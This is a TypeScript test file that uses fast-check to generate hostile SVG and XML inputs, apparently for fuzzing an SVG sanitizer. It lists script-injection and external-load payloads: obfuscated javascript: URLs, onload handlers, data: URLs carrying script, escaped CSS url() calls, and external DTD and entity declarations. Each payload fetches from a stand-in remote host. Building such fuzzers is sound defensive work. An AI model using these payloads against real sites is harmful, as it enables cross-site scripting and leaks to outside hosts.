/** SVG and other XML that try to run code or to load a file of another host, also where they are not well-formed. */
import fc from 'fast-check';
import { FAR } from './css-samples.ts';

const RUN = `fetch('//${FAR}/ran')`;
const NAMES =
  'g rect path a a use image image feImage filter style style script script svg text set animate animate foreignObject switch handler iframe img object embed link video audio defs pattern linearGradient title desc metadata SCRIPT body base meta annotation-xml math'.split(
    ' ',
  );
const PREFIXES = ['', '', '', 's:', 'h:', 'm:', 'u:', 'n:'];
const URLS = [
  `https://${FAR}/a.svg#a`,
  `//${FAR}/a.svg#a`,
  `&#47;/${FAR}/a.png`,
  `\\\\${FAR}/a.png`,
  `/\t/${FAR}/a.png`,
  `javascript:${RUN}`,
  `java&#10;script:${RUN}`,
  `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload="${RUN}"/>`,
  `data:text/html,&lt;script>${RUN}&lt;/script>`,
  '#a',
  'a.png',
];
const CSS = [
  `fill:url(//${FAR}/a#b)`,
  `background:u\\72l(//${FAR}/c)`,
  `background-image:image-set("//${FAR}/c" 1x)`,
  'color:red',
];
const ATTRIBUTES: readonly (readonly [string, readonly string[]])[] = [
  ['href', URLS],
  ['x:href', URLS],
  ['y:href', URLS],
  ['src', URLS],
  ['data', URLS],
  ['onload', [RUN]],
  ['onbegin', [RUN]],
  ['ONLOAD', [RUN]],
  ['u:onload', [RUN]],
  ['style', CSS],
  ['mask', CSS.map((css) => css.replace(/^[\w-]+:/, ''))],
  ['fill', CSS.map((css) => css.replace(/^[\w-]+:/, ''))],
  ['attributeName', ['href', 'xlink:href', 'onload', 'style', 'fill', 'mask']],
  ['to', [...URLS, ...CSS]],
  ['values', URLS],
  ['begin', ['0s']],
  ['dur', ['1s']],
  ['xml:base', [`//${FAR}/`]],
  ['width', ['9']],
  ['xmlns', ['http://www.w3.org/1999/xhtml', 'http://www.w3.org/2000/svg', '']],
  ['rel', ['stylesheet', 'alternate']],
  ['id', ['a']],
];
const TEXTS = [
  RUN,
  `@import "//${FAR}/i.css";`,
  `*{background:url(//${FAR}/b)}`,
  `@font-face{font-family:f;src:url(//${FAR}/f)}*{font-family:f}`,
  'text',
  `<![CDATA[${RUN}]]>`,
  `<![CDATA[@imp]]><!-- -->ort "//${FAR}/i.css";`,
  '&e;',
  '&amp;',
  `<?xml-stylesheet href="//${FAR}/p.css"?>`,
  '<!-- c -->',
  '</g>',
  '<',
  '&',
  ']]>',
  '\0',
];
const PROLOGS = [
  '',
  '',
  '',
  '<?xml version="1.0"?>',
  '<?xml version="1.1" encoding="utf-8"?>',
  `<?xml-stylesheet type="text/css" href="//${FAR}/p.css"?>`,
  `<!DOCTYPE svg [<!ENTITY e "${RUN}"><!ATTLIST svg onload CDATA "${RUN}">]>`,
  `<!DOCTYPE svg [<!ENTITY e "<script xmlns='http://www.w3.org/2000/svg'>${RUN}</script>">]>`,
  `<!DOCTYPE svg SYSTEM "http://${FAR}/d.dtd">`,
  `<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://${FAR}/p.dtd">%p;]>`,
  '\ufeff',
];
const DECLARED =
  'xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" ' +
  'xmlns:m="http://www.w3.org/1998/Math/MathML" xmlns:x="http://www.w3.org/1999/xlink" xmlns:y="http://www.w3.org/1999/xlink" xmlns:u="urn:unknown"';

const attribute = fc
  .constantFrom(...ATTRIBUTES)
  .chain(([name, values]) =>
    fc.constantFrom(...values).map((value) => ` ${name}="${value.replaceAll('"', '&quot;')}"`),
  );

const { element } = fc.letrec<{ element: string; content: string }>((tie) => ({
  content: fc.oneof({ depthSize: 'small', withCrossShrink: true }, fc.constantFrom(...TEXTS), tie('element')),
  element: fc
    .tuple(
      fc.constantFrom(...PREFIXES),
      fc.constantFrom(...NAMES),
      fc.uniqueArray(attribute, { maxLength: 4, selector: (text) => text.split('=')[0] }),
      fc.array(tie('content'), { maxLength: 3 }),
      fc.constantFrom(true, true, true, true, true, true, true, false),
    )
    .map(
      ([prefix, name, attributes, content, isClosed]) =>
        `<${prefix}${name}${attributes.join('')}>${content.join('')}${isClosed ? `</${prefix}${name}>` : ''}`,
    ),
}));

/** Text of an SVG file. */
export const hostileSvg = fc
  .tuple(
    fc.constantFrom(...PROLOGS),
    fc.array(attribute, { maxLength: 1 }),
    fc.array(element, { minLength: 1, maxLength: 3 }),
  )
  .map(([prolog, attributes, content]) => {
    const own = attributes.filter((text) => !text.startsWith(' xmlns'));
    return `${prolog}<svg ${DECLARED} width="9" height="9"${own.join('')}>${content.join('')}</svg>`;
  });
